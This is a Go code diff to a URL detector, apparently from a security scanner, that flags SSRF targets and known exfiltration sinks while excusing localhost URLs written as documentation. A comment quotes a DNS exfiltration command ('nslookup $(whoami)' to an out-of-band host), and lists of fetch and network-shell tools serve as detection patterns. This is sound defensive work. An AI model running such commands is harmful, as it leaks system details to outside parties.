@@ -29,6 +29,16 @@ var urlConfidence = map[string]float64{
 
 	"known_bad_host":   0.95,
 	"known_bad_domain": 0.9,
+
+	// The shipped list's kinds (package urllist, default.txt): a vendor's
+	// test page exists to be blocked; an interaction catcher is where a
+	// planted request reports; a request bin also debugs webhooks, and a
+	// tunnel also demos a laptop's server, so those two stay below the
+	// block threshold.
+	urllist.KindTestURL:        0.95,
+	urllist.KindOOBSink:        0.9,
+	urllist.KindRequestCatcher: 0.7,
+	urllist.KindTunnelHost:     0.5,
 }
 
 // specialSchemes are the URL schemes whose URLs are looked at: those a
@@ -54,8 +64,11 @@ var rebindingDomains = []string{"nip.io", "sslip.io", "xip.io", "localtest.me", 
 // urlDetector adds the ssrf and known_bad_url signals of every URL in
 // the text.
 type urlDetector struct {
-	// list is the known_bad_url list; nil means none.
+	// list is the operator's known_bad_url list; nil means none.
 	list *urllist.List
+	// defaults is the shipped list (urllist.Default); nil when the
+	// operator turned it off.
+	defaults *urllist.List
 	// addrs classifies addresses for the ssrf class.
 	addrs addressClassifier
 }
@@ -75,7 +88,24 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 	}
 	memo := map[string]verdict{}
 	const maxMemo = 1024
+	// Each documentation check reads at most 96 bytes around its URL; a
+	// text made of local URLs gets the first maxDocChecks of them checked,
+	// the rest reported.
+	const maxDocChecks = 256
+	docChecks := 0
+	// Names under the shipped list's entries are also read outside URLs
+	// (DNS exfiltration writes "nslookup $(whoami).x.oast.pro"), in the
+	// text between the URLs.
+	bareFrom := 0
+	bare := func(from, to int) {
+		if d.defaults == nil || from >= to {
+			return
+		}
+		findBareSinks(text, from, to, d.defaults, func(kind string, start, end int) { add(KnownBadURL, kind, start, end) })
+	}
 	findURLs(text, func(u foundURL) {
+		bare(bareFrom, u.start)
+		bareFrom = max(bareFrom, u.end)
 		v, seen := memo[u.host]
 		if !seen {
 			h := urlhost.Parse(u.host)
@@ -85,6 +115,9 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 				if d.list != nil {
 					v.bad = d.list.Match(h.Name, h.Addr)
 				}
+				if v.bad == "" && d.defaults != nil {
+					v.bad = d.defaults.Match(h.Name, h.Addr)
+				}
 			}
 			if len(memo) < maxMemo {
 				memo[u.host] = v
@@ -93,7 +126,12 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 		if !v.ok {
 			return
 		}
-		if v.ssrf != "" {
+		documented := false
+		if v.ssrf != "" && documentedKinds[v.ssrf] && !v.obfuscated && !u.userinfoHost && docChecks < maxDocChecks {
+			docChecks++
+			documented = documentedURL(text, u, v.ssrf)
+		}
+		if v.ssrf != "" && !documented {
 			add(SSRF, v.ssrf, u.start, u.end)
 			if v.ssrf != "internal_hostname" && (v.obfuscated || u.userinfoHost) {
 				add(SSRF, "obfuscated_address", u.start, u.end)
@@ -103,12 +141,187 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 			add(KnownBadURL, v.bad, u.start, u.end)
 		}
 	})
+	bare(bareFrom, len(text))
 	findBareAddresses(text, func(start, end int, a netip.Addr) {
-		if cat := d.addrs.ClassifyAddr(a); cat == catMetadata || cat == catLinkLocal {
+		if cat := d.addrs.ClassifyAddr(a); (cat == catMetadata || cat == catLinkLocal) && addressInAction(text, start, end) {
 			add(SSRF, string(cat), start, end)
 		}
 	})
 	return nil
+}
+
+// documentedKinds are the ssrf kinds that documentation writes every
+// day: a local development server, a router's page, a placeholder host.
+// Such a URL in a documentation frame is no signal (documentedURL); a
+// metadata, link-local or rebinding host, or any spelling meant to pass
+// a filter (obfuscated_address), always is.
+var documentedKinds = map[string]bool{
+	string(catLoopback): true, string(catPrivate): true, string(catUnspecified): true,
+	string(catReserved): true, "internal_hostname": true,
+}
+
+// placeholderHosts are the single-label names documentation writes for
+// "your host here" (http://server/path, http://host:port/).
+var placeholderHosts = map[string]bool{
+	"host": true, "hostname": true, "server": true, "servername": true, "yourserver": true,
+	"your-server": true, "myserver": true, "my-server": true, "yourhost": true, "your-host": true,
+	"myhost": true, "my-host": true, "domain": true, "yourdomain": true, "your-domain": true,
+	"foo": true, "bar": true, "baz": true, "ip": true, "address": true, "addr": true,
+}
+
+// urlDocBefore and urlDocAfter are what documentation writes around a URL it
+// describes rather than asks to fetch: an example, a default, where a
+// local server listens.
+var (
+	urlDocBefore = []string{"e.g", "eg.", "for example", "for instance", "such as", "default", "example",
+		"i.e", "usually", "typically", "listens on", "listening on", "running on", "runs on", "served at",
+		"served on", "available at", "reachable at", "placeholder", "like "}
+	urlDocAfter = []string{"by default", "(default", "in your browser", "in a browser", "is the default"}
+)
+
+// documentedURL reports whether the URL u, whose ssrf kind is kind, is
+// written as documentation writes it (issue 27: benign READMEs and tool
+// definitions describe "http://localhost:11434 by default"): a
+// placeholder single-label host, or an example or default phrase before
+// it on its line (within 64 bytes) or after it (within 32).
+func documentedURL(text string, u foundURL, kind string) bool {
+	if kind == "internal_hostname" && placeholderHosts[strings.ToLower(u.host)] {
+		return true
+	}
+	from := max(0, u.start-64)
+	if k := strings.LastIndexAny(text[from:u.start], "\n\r"); k >= 0 {
+		from += k + 1
+	}
+	to := min(len(text), u.end+32)
+	if k := strings.IndexAny(text[u.end:to], "\n\r"); k >= 0 {
+		to = u.end + k
+	}
+	before, after := strings.ToLower(text[from:u.start]), strings.ToLower(text[u.end:to])
+	for _, p := range urlDocBefore {
+		if strings.Contains(before, p) {
+			return true
+		}
+	}
+	for _, p := range urlDocAfter {
+		if strings.Contains(after, p) {
+			return true
+		}
+	}
+	return false
+}
+
+// addrActionWords are the words that, shortly before a bare address on its
+// line, make it the object of a request: a fetch command or tool, or an
+// imperative to go there.
+var addrActionWords = map[string]bool{
+	"curl": true, "wget": true, "fetch": true, "get": true, "http_get": true, "http-get": true,
+	"request": true, "requests": true, "invoke-webrequest": true, "invoke-restmethod": true, "iwr": true, "irm": true,
+	"nc": true, "ncat": true, "telnet": true, "connect": true, "visit": true, "open": true, "load": true,
+	"browse": true, "navigate": true, "download": true, "query": true, "call": true, "ping": true,
+	"url": true, "uri": true, "endpoint": true, "base_url": true, "target": true,
+}
+
+// addressInAction reports whether the bare address at text[start:end] is
+// something to reach, not something named (issue 27: "AWS exposes
+// instance metadata at 169.254.169.254; never let a tool fetch it" is
+// documentation, not SSRF): it is a scheme-less URL (a path or a port
+// follows; a CIDR prefix length is not a path), the value of an assignment or a key ("url=…", `"host":
+// "…"`), or a fetch command or imperative stands before it on its line,
+// within 48 bytes.
+func addressInAction(text string, start, end int) bool {
+	if end+1 < len(text) && (text[end] == '/' && text[end+1] > ' ' && !isPrefixLength(text[end+1:]) || text[end] == ':' && isDigit(text[end+1])) {
+		return true
+	}
+	from := max(0, start-48)
+	if k := strings.LastIndexAny(text[from:start], "\n\r"); k >= 0 {
+		from += k + 1
+	}
+	before := strings.TrimRight(text[from:start], " \t\"'`")
+	if strings.HasSuffix(before, "=") || strings.HasSuffix(before, ":") && strings.ContainsAny(text[from:start], "\"'") {
+		return true
+	}
+	for w := range strings.FieldsFuncSeq(before, func(r rune) bool {
+		return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_' || r == '-')
+	}) {
+		if len(w) <= 17 && addrActionWords[strings.ToLower(w)] {
+			return true
+		}
+	}
+	return false
+}
+
+// isPrefixLength reports whether s starts with the prefix length of a
+// CIDR block ("16" of 169.254.0.0/16), which a path is not.
+func isPrefixLength(s string) bool {
+	n := 0
+	for n < len(s) && n < 3 && isDigit(s[n]) {
+		n++
+	}
+	return n > 0 && (n == len(s) || !isAlnum(s[n]) && s[n] != '/' && s[n] != '.' && s[n] != '-' && s[n] != '_')
+}
+
+// isURLHostByte reports whether b may be part of a host name written in
+// text.
+func isURLHostByte(b byte) bool { return isAlnum(b) || b == '-' || b == '.' }
+
+// findBareSinks finds, in text[from:to], names outside URLs that fall
+// under an entry of the shipped list l, and passes each one's kind and
+// span to fn. A bare name counts when it is a subdomain of the entry
+// ("k2n8x.oastify.com": interaction catchers hand out such names, and
+// prose that merely names the service writes the entry alone) or when a
+// path follows it ("webhook.site/0e6…"); tunnels count only in URLs. Each
+// byte is read a bounded number of times: the scan jumps from dot to dot
+// and never goes back before the end of the last name.
+func findBareSinks(text string, from, to int, l *urllist.List, fn func(kind string, start, end int)) {
+	i := from
+	for i < to {
+		k := strings.IndexByte(text[i:to], '.')
+		if k < 0 {
+			return
+		}
+		dot, prev := i+k, i
+		e := dot + 1
+		for e < to && e-dot < 253 && isURLHostByte(text[e]) {
+			e++
+		}
+		i = e
+		for e > dot && (text[e-1] == '.' || text[e-1] == '-') {
+			e--
+		}
+		// Most dots in prose, code and markup end a sentence, join an
+		// identifier or start a file extension: the last label must be a
+		// top-level domain of the list before the name is read further.
+		last := dot + strings.LastIndexByte(text[dot:e], '.')
+		if e <= last+1 || !l.HasTLD(text[last+1:e]) || e < len(text) && text[e] >= 0x80 {
+			continue
+		}
+		s := dot
+		for s > prev && dot-s < 253 && isURLHostByte(text[s-1]) {
+			s--
+		}
+		for s < e && (text[s] == '.' || text[s] == '-') {
+			s++
+		}
+		if s > 0 && (text[s-1] >= 0x80 || text[s-1] == '_') || strings.IndexByte(text[s:e], '.') < 0 {
+			continue
+		}
+		start, end := s, e
+		name := text[s:e]
+		lower := name
+		for j := 0; j < len(name); j++ {
+			if isUpper(name[j]) {
+				lower = strings.ToLower(name)
+				break
+			}
+		}
+		kind, entry := l.MatchZone(lower)
+		if kind == "" || kind == urllist.KindTunnelHost {
+			continue
+		}
+		if len(lower) > len(entry) || end+1 < len(text) && text[end] == '/' && text[end+1] > ' ' {
+			fn(kind, start, end)
+		}
+	}
 }
 
 // classifyHost returns the ssrf kind of a parsed host, "" for none.
@@ -258,28 +471,43 @@ func stripPort(h string) string {
 	return h
 }
 
+// bareAddrNeedles are where a bare address the ssrf class reports can
+// start: the link-local block (169.254.0.0/16, which holds most metadata
+// addresses) and the metadata addresses outside it (metadataAddrs). The
+// class reports no other bare address, so the scan looks for these
+// strings instead of reading every digit of the text.
+var bareAddrNeedles = []string{"169.254.", "100.100.100.200", "192.0.0.192"}
+
 // findBareAddresses finds dotted-quad IPv4 addresses written outside a
-// URL (a word boundary on both sides, not part of a longer dotted number).
+// URL (a word boundary on both sides, not part of a longer dotted number)
+// that start with one of bareAddrNeedles. Each needle is one pass of
+// strings.Index over the text.
 func findBareAddresses(text string, fn func(start, end int, a netip.Addr)) {
-	for i := 0; i < len(text); i++ {
-		if !isDigit(text[i]) || i > 0 && (isAlnum(text[i-1]) || text[i-1] == '.' || text[i-1] == '/') {
-			continue
+	for _, needle := range bareAddrNeedles {
+		for from := 0; from < len(text); {
+			k := strings.Index(text[from:], needle)
+			if k < 0 {
+				break
+			}
+			i := from + k
+			from = i + len(needle)
+			if i > 0 && (isAlnum(text[i-1]) || text[i-1] == '.' || text[i-1] == '/') {
+				continue
+			}
+			j := i
+			for j < len(text) && (isDigit(text[j]) || text[j] == '.') && j-i < 16 {
+				j++
+			}
+			end := j
+			for end > i && text[end-1] == '.' {
+				end--
+			}
+			if j < len(text) && isAlnum(text[j]) || strings.Count(text[i:end], ".") != 3 {
+				continue
+			}
+			if a, err := netip.ParseAddr(text[i:end]); err == nil {
+				fn(i, end, a)
+			}
 		}
-		j := i
-		for j < len(text) && (isDigit(text[j]) || text[j] == '.') && j-i < 16 {
-			j++
-		}
-		end := j
-		for end > i && text[end-1] == '.' {
-			end--
-		}
-		if j < len(text) && isAlnum(text[j]) || strings.Count(text[i:end], ".") != 3 {
-			i = j
-			continue
-		}
-		if a, err := netip.ParseAddr(text[i:end]); err == nil {
-			fn(i, end, a)
-		}
-		i = j
 	}
 }
